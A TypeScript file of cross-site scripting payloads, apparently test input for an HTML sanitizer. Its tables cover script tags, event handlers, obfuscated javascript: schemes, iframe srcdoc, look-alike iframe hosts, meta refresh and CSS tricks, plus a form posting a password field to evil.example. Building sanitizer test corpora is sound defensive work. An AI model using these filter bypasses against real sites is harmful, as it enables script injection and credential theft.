import { FRAME_JS, JS, REAL_IMAGE, b64, entities, type XssPayload } from './xss-payload-kit';

/** The first payload table: script elements, handlers, URL schemes, frames, dangerous elements, CSS. */
export const scripts: XssPayload[] = [
  { name: 'script tag', html: `<script>${JS}</script>` },
  { name: 'script tag, mixed case', html: `<ScRiPt>${JS}</sCrIpT>` },
  { name: 'script tag split around a nested script', html: `<scr<script>ipt>${JS}</scr</script>ipt>` },
  { name: 'script src data: URL', html: `<script src="data:text/javascript,${JS}"></script>` },
  { name: 'script type module', html: `<script type="module">${JS}</script>` },
  { name: 'script inside svg', html: `<svg><script>${JS}</script></svg>` },
  { name: 'svg script with xlink:href', html: `<svg><script xlink:href="data:,${JS}"></script></svg>` },
  { name: 'script after attribute breakout', html: `<p title="x"><script>${JS}</script>">text</p>` },
];

export const handlers: XssPayload[] = [
  { name: 'img onerror, unquoted', html: `<img src=x onerror=${JS}>` },
  { name: 'img onerror, quoted', html: `<img src="x" onerror="${JS}">` },
  { name: 'img onerror, slashes for spaces', html: `<img/src=x/onerror=${JS}>` },
  { name: 'img onerror, newlines around =', html: `<img src=x\nonerror\n=\n${JS}>` },
  { name: 'img onerror, eval of src', html: `<img src="x:${JS}" onerror="eval(src.slice(2))">` },
  {
    name: 'img onerror, entity-encoded handler body',
    html: `<img src=x onerror="${entities('window', false)}.__xss=1">`,
  },
  { name: 'img onload on a real image', html: `<img src="${REAL_IMAGE}" onload="${JS}">` },
  { name: 'img with mixed-case handler', html: `<img src=x OnErRoR="${JS}">` },
  { name: 'svg onload', html: `<svg onload="${JS}"></svg>` },
  { name: 'svg/onload without a space', html: `<svg/onload=${JS}>` },
  { name: 'body onload', html: `<body onload="${JS}">` },
  { name: 'details open ontoggle', html: `<details open ontoggle="${JS}"><summary>x</summary></details>` },
  { name: 'video source onerror', html: `<video><source onerror="${JS}"></video>` },
  { name: 'video onerror', html: `<video src=x onerror="${JS}"></video>` },
  { name: 'audio onerror', html: `<audio src=x onerror="${JS}"></audio>` },
  { name: 'marquee onstart', html: `<marquee onstart="${JS}">x</marquee>` },
  { name: 'input autofocus onfocus', html: `<input autofocus onfocus="${JS}">` },
  { name: 'select autofocus onfocus', html: `<select autofocus onfocus="${JS}"></select>` },
  { name: 'textarea autofocus onfocus', html: `<textarea autofocus onfocus="${JS}"></textarea>` },
  { name: 'link onmouseover', html: `<a href="#" onmouseover="${JS}">hover</a>` },
  { name: 'paragraph onclick', html: `<p onclick="${JS}">click</p>` },
  { name: 'div onpointerenter', html: `<div onpointerenter="${JS}">x</div>` },
  { name: 'iframe onload', html: `<iframe onload="${JS}"></iframe>` },
  { name: 'style onload', html: `<style onload="${JS}"></style>` },
  {
    name: 'onanimationstart with a keyframes style',
    html: `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${JS}">x</p>`,
  },
  { name: 'svg animate onbegin', html: `<svg><animate onbegin="${JS}" attributeName="x" dur="1s"></animate></svg>` },
  { name: 'svg set onbegin', html: `<svg><set onbegin="${JS}" attributeName="x" to="1"></set></svg>` },
  { name: 'custom element onclick', html: `<x-widget onclick="${JS}">x</x-widget>` },
  { name: 'frameset onload', html: `<frameset onload="${JS}"></frameset>` },
];

export const schemes: XssPayload[] = [
  { name: 'href javascript:', html: `<a href="javascript:${JS}">click</a>` },
  { name: 'href JaVaScRiPt:', html: `<a href="JaVaScRiPt:${JS}">click</a>` },
  { name: 'href java&#x09;script: (tab)', html: `<a href="java&#x09;script:${JS}">click</a>` },
  { name: 'href java&#x0A;script: (newline)', html: `<a href="java&#x0A;script:${JS}">click</a>` },
  { name: 'href literal tab in scheme', html: `<a href="java\tscript:${JS}">click</a>` },
  { name: 'href &#106;avascript:', html: `<a href="&#106;avascript:${JS}">click</a>` },
  { name: 'href &#x6A;avascript:', html: `<a href="&#x6A;avascript:${JS}">click</a>` },
  { name: 'href fully hex-encoded scheme', html: `<a href="${entities('javascript:', true)}${JS}">click</a>` },
  {
    name: 'href zero-padded decimal entities',
    html: `<a href="${[...'javascript:'].map((c) => `&#000${c.charCodeAt(0)}`).join('')}${JS}">click</a>`,
  },
  { name: 'href javascript&colon;', html: `<a href="javascript&colon;${JS}">click</a>` },
  { name: 'href javascript&#58;', html: `<a href="javascript&#58;${JS}">click</a>` },
  { name: 'href leading control characters', html: `<a href=" &#14;&#1; javascript:${JS}">click</a>` },
  { name: 'href entity inside the word', html: `<a href="javas&#99;ript:${JS}">click</a>` },
  { name: 'href unicode escape in the script', html: `<a href="javascript:window.\\u005f_xss=1">click</a>` },
  { name: 'href vbscript:', html: `<a href="vbscript:msgbox(1)">click</a>` },
  { name: 'href data:text/html', html: `<a href="data:text/html,<script>${FRAME_JS}</script>">click</a>` },
  {
    name: 'href data:text/html;base64',
    html: `<a href="data:text/html;base64,${b64(`<script>${FRAME_JS}</script>`)}">click</a>`,
  },
  { name: 'img src javascript:', html: `<img src="javascript:${JS}">` },
  { name: 'img src data:image/svg+xml', html: `<img src="data:image/svg+xml,<svg onload='${JS}'></svg>">` },
  { name: 'img srcset javascript:', html: `<img src="${REAL_IMAGE}" srcset="${REAL_IMAGE} 1x, javascript:${JS} 2x">` },
  { name: 'button formaction', html: `<form><button formaction="javascript:${JS}">go</button></form>` },
  { name: 'input formaction', html: `<input type="submit" formaction="javascript:${JS}" value="go">` },
  { name: 'form action javascript:', html: `<form action="javascript:${JS}"><input type="submit"></form>` },
  { name: 'isindex action', html: `<isindex action="javascript:${JS}" type="image">` },
  {
    name: 'svg a xlink:href',
    html: `<svg><a xlink:href="javascript:${JS}"><text x="20" y="20">click</text></a></svg>`,
  },
  {
    name: 'svg animate sets href',
    html: `<svg><a><animate attributeName="href" values="javascript:${JS}"></animate><text x="20" y="20">click</text></a></svg>`,
  },
  { name: 'math href', html: `<math href="javascript:${JS}">click</math>` },
  {
    name: 'math maction xlink:href',
    html: `<math><maction actiontype="statusline" xlink:href="javascript:${JS}">click</maction></math>`,
  },
  { name: 'blockquote cite javascript:', html: `<blockquote cite="javascript:${JS}">x</blockquote>` },
  { name: 'video poster javascript:', html: `<video poster="javascript:${JS}"></video>` },
  { name: 'table background javascript:', html: `<table background="javascript:${JS}"><tr><td>x</td></tr></table>` },
  { name: 'href null byte entity in scheme', html: `<a href="java&#0;script:${JS}">click</a>` },
  { name: 'href percent-encoded null byte', html: `<a href="javascript%00:${JS}">click</a>` },
];

export const frames: XssPayload[] = [
  { name: 'iframe src javascript:', html: `<iframe src="javascript:${FRAME_JS}"></iframe>` },
  { name: 'iframe srcdoc', html: `<iframe srcdoc="<script>${FRAME_JS}</script>"></iframe>` },
  {
    name: 'iframe srcdoc, entity-encoded',
    html: `<iframe srcdoc="&lt;img src=x onerror=${FRAME_JS}&gt;"></iframe>`,
  },
  {
    name: 'iframe srcdoc beside an allowed src',
    html: `<iframe src="https://www.youtube-nocookie.com/embed/x" srcdoc="<script>${FRAME_JS}</script>"></iframe>`,
  },
  { name: 'iframe other host', html: `<iframe src="https://evil.example/embed"></iframe>` },
  { name: 'iframe http on an allowed host', html: `<iframe src="http://www.youtube.com/embed/x"></iframe>` },
  { name: 'iframe protocol-relative', html: `<iframe src="//www.youtube.com/embed/x"></iframe>` },
  { name: 'iframe look-alike host', html: `<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>` },
  { name: 'iframe credentials before host', html: `<iframe src="https://www.youtube.com@evil.example/x"></iframe>` },
  { name: 'iframe backslash host', html: `<iframe src="https:\\\\evil.example\\www.youtube.com"></iframe>` },
  { name: 'iframe data:text/html', html: `<iframe src="data:text/html,<script>${FRAME_JS}</script>"></iframe>` },
  { name: 'iframe entity-encoded scheme', html: `<iframe src="&#106;avascript:${FRAME_JS}"></iframe>` },
  {
    name: 'iframe allowed host with onload',
    html: `<iframe src="https://player.vimeo.com/video/1" onload="${JS}"></iframe>`,
  },
  {
    name: 'iframe inside svg foreignObject',
    html: `<svg><foreignObject><iframe srcdoc="<script>${FRAME_JS}</script>"></iframe></foreignObject></svg>`,
  },
  { name: 'frame src javascript:', html: `<frameset><frame src="javascript:${FRAME_JS}"></frameset>` },
  { name: 'portal from another host', html: `<portal src="https://evil.example/"></portal>` },
];

export const elements: XssPayload[] = [
  { name: 'meta refresh to javascript:', html: `<meta http-equiv="refresh" content="0;url=javascript:${JS}">` },
  {
    name: 'meta refresh to data:',
    html: `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(`<script>${FRAME_JS}</script>`)}">`,
  },
  { name: 'base href javascript:', html: `<base href="javascript:/">` },
  { name: 'base href other host', html: `<base href="https://evil.example/">` },
  { name: 'object data javascript:', html: `<object data="javascript:${JS}"></object>` },
  { name: 'object data text/html', html: `<object data="data:text/html,<script>${FRAME_JS}</script>"></object>` },
  { name: 'embed src javascript:', html: `<embed src="javascript:${JS}">` },
  { name: 'embed svg data', html: `<embed src="data:image/svg+xml;base64,${b64(`<svg onload="${JS}"/>`)}">` },
  { name: 'link stylesheet from another host', html: `<link rel="stylesheet" href="https://evil.example/x.css">` },
  { name: 'link import', html: `<link rel="import" href="data:text/html,<script>${FRAME_JS}</script>">` },
  { name: 'bgsound src', html: `<bgsound src="javascript:${JS}">` },
  { name: 'form that posts elsewhere', html: `<form action="https://evil.example/"><input name="password"></form>` },
];

export const styles: XssPayload[] = [
  { name: 'style expression()', html: `<p style="width:expression(${JS})">x</p>` },
  { name: 'style url(javascript:)', html: `<p style="background:url(javascript:${JS})">x</p>` },
  { name: 'style -moz-binding', html: `<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>` },
  { name: 'style tag @import', html: `<style>@import 'https://evil.example/x.css';</style>` },
  {
    name: 'full-page overlay link',
    html: `<a href="https://evil.example/" style="position:fixed;inset:0;z-index:99999">x</a>`,
  },
  { name: 'style escapes hiding expression', html: `<p style="x:\\65 xpression(${JS})">x</p>` },
];
